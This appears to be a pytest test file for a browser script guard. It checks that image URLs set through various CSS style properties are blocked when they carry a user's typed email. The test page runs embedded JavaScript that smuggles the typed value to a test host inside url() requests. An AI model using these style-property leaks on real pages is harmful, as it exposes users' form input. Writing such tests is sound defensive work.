"""Pictures of styles that are set by property, of which no function of the browser tells."""

import pytest

from scriptward.app.guard import guard_script
from scriptward.policy.language.reader import parsed
from tests.guard.test_referrers import HOST, OTHER, PATIENCE, POLICY, TYPED

PAGE = (
    "<!doctype html><meta charset=utf-8><script src=/styling-guard.js></script>"
    "<title>Visit</title><link rel=icon href='data:,'><body><input name=email>"
    "<p id=box style='height: 9px'></p><script src=/styling.js></script>"
)
CODE = """
const picture = (way, said) => `url("http://HOST/${way}?${encodeURIComponent(said)}")`;
const ways = {
  background: (url) => { box.style.background = url; },
  camel: (url) => { box.style.backgroundImage = url; },
  dashed: (url) => { box.style["background-image"] = url; },
  border: (url) => {
    box.style.borderStyle = "solid";
    box.style.borderImageSource = url;
  },
  content: (url) => { box.style.content = url; },
  "put-in": (url) => {
    const made = document.createElement("div");
    made.style.height = "9px";
    made.style.background = url;
    document.body.append(made);
  },
  below: (url) => {
    const made = document.createElement("section");
    made.innerHTML = "<p>a</p>";
    made.firstChild.style.background = url;
    document.body.append(made);
  },
};
const tried = (way, said) => {
  ways[way](picture(way, said));
  requestAnimationFrame(() => setTimeout(() => fetch("http://HOST/end", { mode: "no-cors" }), 99));
};
"""
NAMES = ("background", "camel", "dashed", "border", "content", "put-in", "below")


@pytest.fixture(scope="module")
def reached(chromium, site):
    """By way and what was said: what was asked of the host."""
    site.files["/styling-guard.js"] = guard_script(parsed(POLICY), headers=True)
    site.files["/styling.js"] = CODE.replace("HOST", HOST).encode()
    site.files["/styling"] = PAGE.encode()
    answers = {}
    context = chromium.new_context()
    page = context.new_page()
    for way in NAMES:
        for said in (OTHER, TYPED):
            page.goto("http://www.clinic.test/styling")
            page.fill("input", TYPED)
            site.reached.clear()
            page.evaluate(f"tried('{way}', '{said}')")
            for _ in range(PATIENCE):
                page.wait_for_timeout(50)
                if "/end" in site.reached:
                    break
            else:
                pytest.fail(f"{way}: the page didn't end")
            answers[way, said] = [path for path in site.reached if path != "/end"]
    context.close()
    return answers


@pytest.mark.parametrize("way", NAMES)
def test_a_picture_with_another_text_is_asked_for(reached, way):
    assert reached[way, OTHER] == [f"/{way}?none.said%40example.org"]


@pytest.mark.parametrize("way", NAMES)
def test_one_with_what_was_typed_is_not(reached, way):
    assert reached[way, TYPED] == []
